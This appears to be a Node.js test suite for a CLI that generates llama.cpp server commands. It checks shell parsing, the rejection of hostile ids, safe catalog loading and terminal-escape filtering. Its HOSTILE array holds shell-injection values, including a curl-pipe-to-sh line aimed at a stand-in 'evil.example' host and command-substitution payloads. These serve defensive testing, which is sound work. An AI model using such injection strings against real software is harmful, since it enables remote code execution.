// Hostile input through the native CLI and a real POSIX shell: every generated command
// line, parsed by /bin/sh, gives exactly the argv the core reports; hostile ids never
// reach a command; CLI flags, catalog folders and terminal output are safe.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, writeFileSync, symlinkSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = resolve(fileURLToPath(new URL('../..', import.meta.url)));
const cli = process.env.RUNWELL_CLI ?? join(root, 'build/core/runwell');

const HOSTILE = ['q; curl -s http://evil.example/y.sh | sh; #', 'a|b', '$(touch pwned)', '`touch pwned`', 'x\ntouch pwned',
  "it's", '"q"', 'a b', '--rm', '..', '\uFF1Btouch pwned', 'a&&touch pwned', 'a>pwned', '\u001b[31m'];

// 72 full answers are over a megabyte: node's default output buffer (1 MiB) is too small for them.
const batch = (requests) => execFileSync(cli, ['batch'], { input: requests.map((r) => JSON.stringify(r)).join('\n'), maxBuffer: 64 << 20 })
  .toString().trim().split('\n').map((l) => JSON.parse(l));

// What /bin/sh passes as arguments for one line: the line's words handed to a function that
// prints each argument NUL-terminated on fd 3 (so a "> file" redirect of the line does not
// capture it). Runs in an empty folder so a redirect only writes there.
function shellWords(line, cwd) {
  const out = spawnSync('/bin/sh', ['-c', `words() { printf '%s\\0' "$@" >&3; }; words ${line}`],
    { cwd, env: { PWD: cwd, HOME: cwd, PATH: process.env.PATH }, stdio: ['pipe', 'pipe', 'pipe', 'pipe'] });
  assert.equal(out.status, 0, out.stderr.toString());
  return out.output[3].toString().split('\0').slice(0, -1);
}

test('every command line parses in /bin/sh to exactly the argv the core reports', () => {
  const models = ['kimi-linear-48b-a3b-instruct', 'llama-3.1-70b-instruct', 'qwen3-30b-a3b', 'gpt-oss-120b', 'gemma-3-27b-it'];
  const devices = ['rtx-4090', 'apple-m2-ultra-128gb', 'mi100', 'l40', 'v100-32gb', 'rtx-pro-4500-blackwell', 'arc-b580'];
  const requests = models.flatMap((model) => devices.map((hardware) => ({ model, hardware, host_ram_gib: 64, kv: 'q8_0' })));
  const cwd = mkdtempSync(join(tmpdir(), 'runwell-shell-'));
  let lines = 0;
  for (const r of batch(requests)) {
    assert.equal(r.ok, true);
    for (const c of r.commands) {
      const textLines = c.text.split('\n').filter((l) => !l.startsWith('#'));
      const argvLines = c.argv.filter((words) => words.length);
      assert.equal(textLines.length, argvLines.length, c.text);
      textLines.forEach((line, i) => {
        // A redirect is shell syntax, not an argument: the shell takes "> Modelfile" away.
        const expected = argvLines[i].flatMap((w, j, all) => (w === '>' || all[j - 1] === '>' ? [] : [w.replace('$PWD', cwd).replace('$HOME', cwd)]));
        assert.deepEqual(shellWords(line.replace(/  # .*$/, ''), cwd), expected, line);
        lines += 1;
      });
    }
  }
  assert.ok(lines > 100, `${lines} lines checked`);
  rmSync(cwd, { recursive: true });
});

// The value after a flag in one argv line, or undefined.
const flag = (words, name) => { const i = words.indexOf(name); return i < 0 ? undefined : words[i + 1]; };

test('commands carry the estimate: context, slots, offload, KV type, the recorded download and the minimum version', () => {
  const models = ['kimi-linear-48b-a3b-instruct', 'llama-3.1-70b-instruct', 'qwen3-30b-a3b', 'gpt-oss-120b', 'gemma-3-27b-it', 'qwen3-8b'];
  const devices = ['apple-m2-ultra-128gb', 'mi100', 'l40', 'v100-32gb', 'rtx-pro-4500-blackwell', 'rtx-4060'];
  const requests = models.flatMap((model) => devices.flatMap((hardware) => [
    { model, hardware, host_ram_gib: 64, quant: 'Q4_K_M' }, { model, hardware, host_ram_gib: 64, quant: 'Q8_0', kv: 'q8_0', mode: 'light-api', context: 16384 }]));
  const cwd = mkdtempSync(join(tmpdir(), 'runwell-flags-'));
  let servers = 0;
  for (const r of batch(requests)) {
    assert.equal(r.ok, true);
    const llama = r.commands.find((c) => c.runtime === 'llama.cpp');
    if (!r.runs) { assert.equal(r.commands.length, 0); continue; }
    assert.ok(llama, `${r.model.id} on ${r.hardware.id}: no llama.cpp command`);
    const line = llama.text.split('\n').find((l) => l.startsWith('llama-server'));
    const words = shellWords(line, cwd);
    const what = `${r.model.id} on ${r.hardware.id}: ${line}`;
    assert.equal(Number(flag(words, '-c')), r.query.context * r.query.concurrency, what);
    assert.equal(flag(words, '-np'), r.query.concurrency > 1 ? String(r.query.concurrency) : undefined, what);
    if (r.hardware.kind !== 'unified') {
      assert.equal(Number(flag(words, '-ngl')), r.offload.kind === 'layers' ? r.offload.gpu_layers : 99, what);
      assert.equal(flag(words, '--n-cpu-moe'), r.offload.kind === 'experts' ? String(r.offload.cpu_expert_layers) : undefined, what);
    }
    assert.equal(flag(words, '--cache-type-k'), r.query.kv === 'f16' ? undefined : r.query.kv, what);
    // A quantized V cache needs flash attention on; otherwise llama.cpp decides per backend (auto).
    assert.equal(flag(words, '-fa'), r.query.kv === 'f16' ? 'auto' : 'on', what);
    if (r.download) assert.equal(flag(words, '-hf'), `${r.download.repo}:${r.download.quant}`, what);
    else assert.ok(flag(words, '-m'), what);
    const llamaSupport = r.runtimes.find((rt) => rt.runtime === 'llama.cpp');
    if (llamaSupport?.since) assert.ok(llama.text.includes(`llama.cpp ${llamaSupport.since}`), what);
    servers += 1;
  }
  assert.ok(servers > 40, `${servers} server lines checked`);
  rmSync(cwd, { recursive: true });
});

test('hostile quant ids, repositories and model ids are refused with bad_id', () => {
  const model = { params_b: 8, layers: 32, hidden: 4096, vocab: 128256, max_context: 131072,
    attention: { kind: 'gqa', heads: 32, kv_heads: 8, head_dim: 128 } };
  const requests = HOSTILE.flatMap((bad) => [
    { model: 'llama-3.1-8b-instruct', hardware: 'rtx-4090', quant: { id: bad, bits: 4, bpw_body: 4.8, bpw_embed: 4.5, bpw_output: 6.5 } },
    { model: { ...model, hf_repo: `org/${bad}` }, hardware: 'apple-m4-max-40c-128gb' },
    { model: { ...model, id: bad }, hardware: 'rtx-4090' },
  ]);
  for (const [i, r] of batch(requests).entries()) {
    assert.equal(r.ok, false, JSON.stringify(requests[i]));
    assert.equal(r.error.code, 'bad_id', JSON.stringify(r.error));
  }
});

test('CLI: no abort on odd arguments, catalog folders are read safely, output has no terminal escapes', () => {
  for (const args of [['list', 'ok'], ['list', 'models', 'extra'], ['estimate', '--context'], ['estimate', '--gpus', '1e999'],
    ['nope\u001b[2J'], ['estimate', '--model', '\u001b[31mred', '--hardware', 'l40']]) {
    const r = spawnSync(cli, args);
    assert.ok(r.status === 1 || r.status === 2, `${args.join(' ')}: exit ${r.status} signal ${r.signal}`);
    assert.ok(!r.stderr.includes(0x1b) && !r.stdout.includes(0x1b), `escape printed for ${args.join(' ')}`);
  }
  // /dev/zero and a FIFO as catalog files: refused at once, not read for ever.
  const dir = mkdtempSync(join(tmpdir(), 'runwell-data-'));
  symlinkSync('/dev/zero', join(dir, 'models.json'));
  spawnSync('mkfifo', [join(dir, 'hardware.json')]);
  const r = spawnSync(cli, ['--data', dir, 'list'], { timeout: 10000 });
  assert.equal(r.status, 2);
  assert.match(r.stderr.toString(), /models\.json: not a regular file/);
  // A catalog name with an escape sequence is refused by the loader (and never printed raw).
  const copy = mkdtempSync(join(tmpdir(), 'runwell-data-'));
  cpSync(join(root, 'data'), copy, { recursive: true });
  const models = readFileSync(join(copy, 'models.json'), 'utf8').replace('"Kimi Linear 48B-A3B Instruct"', '"Kimi \\u001b[2J"');
  writeFileSync(join(copy, 'models.json'), models);
  const bad = spawnSync(cli, ['--data', copy, 'list']);
  assert.equal(bad.status, 2);
  assert.match(bad.stderr.toString(), /bad_text/);
  assert.ok(!bad.stderr.includes(0x1b));
});

test('batch: an over-long line gets an error answer and the batch goes on', () => {
  const long = `{"model":"${'x'.repeat(9 << 20)}"}`;
  const out = execFileSync(cli, ['batch'], { input: `${long}\n{"model":"qwen3-8b","hardware":"l40"}\n`, maxBuffer: 1 << 26 })
    .toString().trim().split('\n').map((l) => JSON.parse(l));
  assert.equal(out.length, 2);
  assert.equal(out[0].error.code, 'bad_json');
  assert.match(out[0].error.message, /too large/);
  assert.equal(out[1].ok, true);
});
